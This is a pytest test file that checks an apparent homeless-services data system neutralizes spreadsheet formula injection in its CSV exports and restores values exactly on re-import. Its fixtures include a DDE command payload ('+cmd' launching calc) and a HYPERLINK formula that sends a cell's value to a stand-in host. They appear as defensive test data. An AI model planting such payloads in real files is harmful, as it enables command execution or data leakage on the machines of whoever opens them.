"""No CSV file we write runs as a spreadsheet formula (OWASP "CSV Injection"), and our own
exports come back exactly: the HUD CSV export over HTTP and the CLI, a researcher's export,
`aggregate.csv`, and the import of our export."""

from __future__ import annotations

import csv
import io
import random
import re
import zipfile
from datetime import date
from pathlib import Path

from sqlalchemy import select, update

from hmis.csv_cells import FORMULA_START, neutral, restored
from hmis.db import models
from hmis.db.session import make_engine, make_sessionmaker

from . import factories as f
from . import people
from .test_export import URL, unzip
from .test_import import empty_url, folder, hmis  # noqa: F401 (empty_url: a fixture)
from .test_read_api import grant_research

LINK = '=HYPERLINK("http://x/?"&B2,"Open")'
# Values a spreadsheet would run, and the ones that only look like our escape.
CMD = "+cmd|' /C calc'!A0"
TRICKY = [LINK, CMD, "@SUM(1+1)", "-2+3", "=x", "'", "'=x", "''=", "''", " =1+1", "\t=1",
          "\r=1", "\uff1d1+1", "'Tis", "O'Brien", "-", "-2", "+5", "-2.50"]  # fmt: skip
# Each client's first, middle and last names.
NAMES = {("=x", "'", "''="), (LINK, "@SUM(1+1)", "-2+3"), ("'=x", CMD, "-")}
WRITTEN = {
    LINK: "'" + LINK, "-2+3": "'-2+3", "=x": "'=x", "'": "'", "'=x": "''=x", "''=": "'''=",
    "''": "'''", " =1+1": "' =1+1", "\t=1": "'\t=1", "\uff1d1+1": "'\uff1d1+1", "'Tis": "'Tis",
    "O'Brien": "O'Brien", "-": "'-", "-2": "-2", "+5": "+5", "-2.50": "-2.50",
}  # fmt: skip


def runs(cell: str) -> bool:
    """A spreadsheet would read the cell as a formula."""
    if cell[:1] in ("\t", "\r"):
        return True
    number = re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", cell)
    return cell.lstrip()[:1] in FORMULA_START and not number


def test_the_rule_neutralizes_formulas_and_restores_every_value():
    for value in TRICKY:
        assert restored(neutral(value)) == value, repr(value)
        assert not runs(neutral(value)), repr(value)
    for value, cell in WRITTEN.items():
        assert neutral(value) == cell, repr(value)
    for value in ("2025-01-02", "2025-01-02 10:00:00", "99", "0", "12.50", "ab12cd", ""):
        assert neutral(value) == value  # dates, timestamps, codes, amounts, IDs: unchanged
    chars = "=+-@'\t\r\n \u3000\uff0d12.eaB"
    rng = random.Random(7)
    for _ in range(20000):
        value = "".join(rng.choice(chars) for _ in range(rng.randint(0, 5)))
        assert restored(neutral(value)) == value, repr(value)
        assert not runs(neutral(value)), repr(value)


def test_every_whitespace_character_is_looked_at():
    assert not any(chr(i).isspace() for i in range(0x3001, 0x110000))


def test_no_csv_writer_but_the_one_that_neutralizes():
    package = Path(__file__).resolve().parents[1] / "hmis"
    writers = [p.relative_to(package).as_posix() for p in package.rglob("*.py")
               if "csv.writer" in p.read_text() or "csv.DictWriter" in p.read_text()]  # fmt: skip
    assert writers == ["csv_cells.py"]


async def _tricky_world(sessions):
    world = await people.coc(sessions)
    writer = world.writer(world.shelter)
    async with sessions() as s, s.begin():
        for first, middle, last in NAMES:
            await f.client(s, writer, first_name=first, middle_name=middle, last_name=last,
                           dob=date(1990, 1, 1), dob_data_quality=1)  # fmt: skip
        shelter = models.Project.id == world.shelter_project.id
        await s.execute(update(models.Project).where(shelter).values(name="@SUM(1+1)"))
    return world


def _names(rows) -> set[tuple[str, str, str]]:
    return {(r["FirstName"], r["MiddleName"], r["LastName"]) for r in rows}


async def test_our_exports_neutralize_formulas_and_import_back_exactly(
    sessions, api, token, empty_url, tmp_path  # noqa: F811
):  # fmt: skip
    await _tricky_world(sessions)
    reply = await api.get(URL, headers={"Authorization": f"Bearer {token('hmis_admin')}"})
    assert reply.status_code == 200, reply.text
    files = unzip(reply.content)
    assert _names(files["Client.csv"]) == {
        ("'=x", "'", "'''="), ("'" + LINK, "'@SUM(1+1)", "'-2+3"),
        ("''=x", "'" + CMD, "'-"),
    }  # fmt: skip
    assert {r["DOB"] for r in files["Client.csv"]} == {"1990-01-01"}  # dates unchanged
    assert [r["ProjectName"] for r in files["Project.csv"] if r["ProjectName"][:1] == "'"] == [
        "'@SUM(1+1)"
    ]
    with zipfile.ZipFile(io.BytesIO(reply.content)) as archive:
        for name in archive.namelist():
            for line in csv.reader(io.StringIO(archive.read(name).decode("utf-8"))):
                assert not any(runs(cell) for cell in line if cell), (name, line)
    # An administrator's import of it restores every value; the CLI's export writes it again.
    source = tmp_path / "source.zip"
    source.write_bytes(reply.content)
    status, out, err = await hmis(empty_url, "import-csv", str(source))
    assert status == 0, out + err
    engine = make_engine(empty_url)
    try:
        async with make_sessionmaker(engine)() as s:
            clients = (await s.execute(select(models.Client.first_name, models.Client.middle_name,
                                              models.Client.last_name))).all()  # fmt: skip
    finally:
        await engine.dispose()
    assert set(map(tuple, clients)) == NAMES
    status, out, err = await hmis(empty_url, "export-csv", "--out", str(tmp_path / "again"))
    assert status == 0, err
    assert _names(folder(tmp_path / "again")["Client.csv"]) == _names(files["Client.csv"])


async def test_a_researchers_export_neutralizes_formulas(sessions, api, token):
    await _tricky_world(sessions)
    await grant_research(sessions, "researcher-1")
    researcher = {"Authorization": f"Bearer {token('researcher', sub='researcher-1')}"}
    reply = await api.get(URL, headers=researcher)
    assert reply.status_code == 200, reply.text
    names = [r["ProjectName"] for r in unzip(reply.content)["Project.csv"]]
    assert "'@SUM(1+1)" in names and "@SUM(1+1)" not in names


async def test_aggregate_csv_neutralizes_organization_names(sessions, api, token):
    world = await people.coc(sessions)
    async with sessions() as s, s.begin():
        shelter = models.Organization.id == world.shelter.id
        await s.execute(update(models.Organization).where(shelter).values(name=LINK))
    url = "/exports/aggregate.csv?measure=PERSONS_SERVED&unit=QUARTER&start=2025-01-01"
    reader = {"Authorization": f"Bearer {token('aggregate_reader')}"}
    reply = await api.get(url + "&by=ORGANIZATION", headers=reader)
    assert reply.status_code == 200, reply.text
    keys = [line[0] for line in csv.reader(io.StringIO(reply.text))]
    assert "'" + LINK in keys and LINK not in keys
    assert not any(runs(key) for key in keys if key)
